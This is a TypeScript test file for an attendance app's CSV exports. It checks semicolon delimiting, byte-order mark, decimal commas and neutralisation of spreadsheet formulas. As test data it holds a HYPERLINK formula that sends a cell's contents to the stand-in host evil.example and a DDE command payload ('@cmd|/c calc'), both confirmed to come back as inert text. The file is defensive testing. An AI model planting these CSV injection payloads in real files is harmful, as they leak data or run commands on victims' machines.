/**
 * Every CSV is read back with a parser, as Excel would read it: semicolons, the byte-order mark,
 * decimal commas, ISO dates — and a hostile name (`=HYPERLINK(…)`) comes back as text, not as a
 * formula.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { attendanceByOrganisation } from '../queries/attendance-by-organisation.js';
import { auditTrail } from '../queries/audit-trail.js';
import { fyrbodal } from '../samples/fyrbodal.js';
import { fyrbodalProcessLeader as helena, fyrbodalRepresentatives } from '../samples/fyrbodal.people.js';
import { createSampleRuntime } from '../samples/load-sample.js';
import { createMemoryStore } from '../runtime/store/memory-store.js';
import { attendanceByOrganisationCsv, auditTrailCsv, deliverablesCsv, esfReportCsv, meetingAttendanceCsv } from './csv-exports.js';
import { decimalComma, excelCsv, neutralise } from './excel-csv.js';

const hostile = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")';

function read(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** Fyrbodal with Karin renamed to a formula, as a hostile import could name her. */
async function withHostileName() {
  const store = createMemoryStore();
  const { runtime } = await createSampleRuntime('fyrbodal', store);
  const dataset = runtime.getState().dataset;
  const renamed = { ...dataset, people: dataset.people.map((p) => (p.id === fyrbodalRepresentatives[0]!.id ? { ...p, name: hostile } : p)) };
  expect((await runtime.load(renamed, { by: helena.id, at: '2019-11-20T12:00:00+01:00' })).ok).toBe(true);
  return { runtime, store };
}

describe('Excel-friendly CSV', () => {
  it('neutralises every cell a spreadsheet would read as a formula, and only those', () => {
    for (const text of ['=1+1', '+46 70', '-5', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(text)).toBe(`'${text}`);
    for (const text of ['Dals-Ed', 'a=b', 'Ånge']) expect(neutralise(text)).toBe(text);
    expect(decimalComma(12.5)).toBe('12,5');
    expect(decimalComma(-3)).toBe('-3');
  });

  it('writes semicolons, CRLF and quotes where a value needs them', () => {
    const text = excelCsv(['Namn', 'Timmar'], [['Ek; Bo', 2.5], ['Åsa "Å" Lind', 3]]);
    expect(text).toBe('\ufeffNamn;Timmar\r\n"Ek; Bo";2,5\r\n"Åsa ""Å"" Lind";3\r\n');
    expect(read(text)).toEqual([['Namn', 'Timmar'], ['Ek; Bo', '2,5'], ['Åsa "Å" Lind', '3']]);
  });
});

describe('the exports', () => {
  it("a meeting's attendance list, with a hostile name coming back as text", async () => {
    const { runtime } = await withHostileName();
    const file = meetingAttendanceCsv(runtime.getState(), 'fyrbodal:mote-2019-01-24')!;
    expect(file).toMatchObject({ filename: 'deltagarlista-2019-01-24.csv', contentType: 'text/csv; charset=utf-8' });
    const rows = read(file.text);
    expect(rows[0]).toEqual(['Datum', 'Namn', 'Organisation', 'Närvaro', 'Deltog', 'Ersätter']);
    expect(rows.length).toBeGreaterThan(10);
    expect(rows.every((r, i) => i === 0 || r[0] === '2019-01-24')).toBe(true);
    expect(rows.map((r) => r[1])).toContain(`'${hostile}`);
    expect(rows.some((r) => r[3] === 'Närvarande')).toBe(true);
  });

  it('attendance per organisation over a period, with rates in decimal comma', async () => {
    const { runtime } = await createSampleRuntime('fyrbodal');
    const params = { groupId: 'fyrbodal:e-halsonatverket', period: { start: '2019-01-01', end: '2019-12-31' } };
    const rows = read(attendanceByOrganisationCsv(runtime.getState(), params, 'en').text);
    expect(rows[0]).toEqual(['Organisation', 'Meetings held', 'Attended', 'Not attended', 'Attendance (%)', 'Vacant seat']);
    const organisations = attendanceByOrganisation(runtime.getState(), params).organisations;
    expect(rows.slice(1).map((r) => r[0])).toEqual(organisations.map((o) => o.name));
    // Every municipality of the network has its row.
    for (const m of fyrbodal.organisations!.filter((o) => o.kind === 'municipality')) expect(rows.map((r) => r[0])).toContain(m.name);
    for (const row of rows.slice(1)) expect(row[4]).toMatch(/^(\d+(,\d)?)?$/);
  });

  it('the ESF report with hours and amounts, and the deliverables', async () => {
    const { runtime } = await createSampleRuntime('ehalsalyftet');
    const esf = read(esfReportCsv(runtime.getState()).text);
    expect(esf[0]).toEqual(['Datum', 'Namn', 'Yrkeskategori', 'Timmar', 'Ersatta timmar', 'Ej ersatta timmar', 'Enhetskostnad (kr/tim)', 'Belopp (kr)']);
    expect(esf.length).toBeGreaterThan(10);
    for (const row of esf.slice(1)) {
      expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(row[7]).toMatch(/^\d+(,\d+)?$/);
    }
    const deliverables = read(deliverablesCsv(runtime.getState()).text);
    expect(deliverables[0]).toEqual(['Leveransobjekt', 'Typ', 'Läge', 'Klart senast', 'Ansvarig']);
    expect(deliverables.length).toBe(runtime.getState().deliverables.size + 1);
  });

  it('the audit trail, where a hostile reason is text too', async () => {
    const { runtime, store } = await withHostileName();
    const cancelled = await runtime.dispatch({ type: 'cancelMeeting', id: 'x', by: helena.id, at: '2019-11-21T09:00:00+01:00', meetingId: 'fyrbodal:mote-2020-01-23', reason: '@cmd|/c calc' });
    expect(cancelled.ok).toBe(true);
    const rows = read(auditTrailCsv(auditTrail(await store.readAll(), runtime.getState())).text);
    expect(rows[0]).toEqual(['Tidpunkt', 'Vem', 'Roll', 'Vad', 'Varför', 'Handling', 'Version']);
    expect(rows.at(-1)![4]).toBe("'@cmd|/c calc");
    expect(rows.map((r) => r[1])).toContain(`'${hostile}`);
  });
});
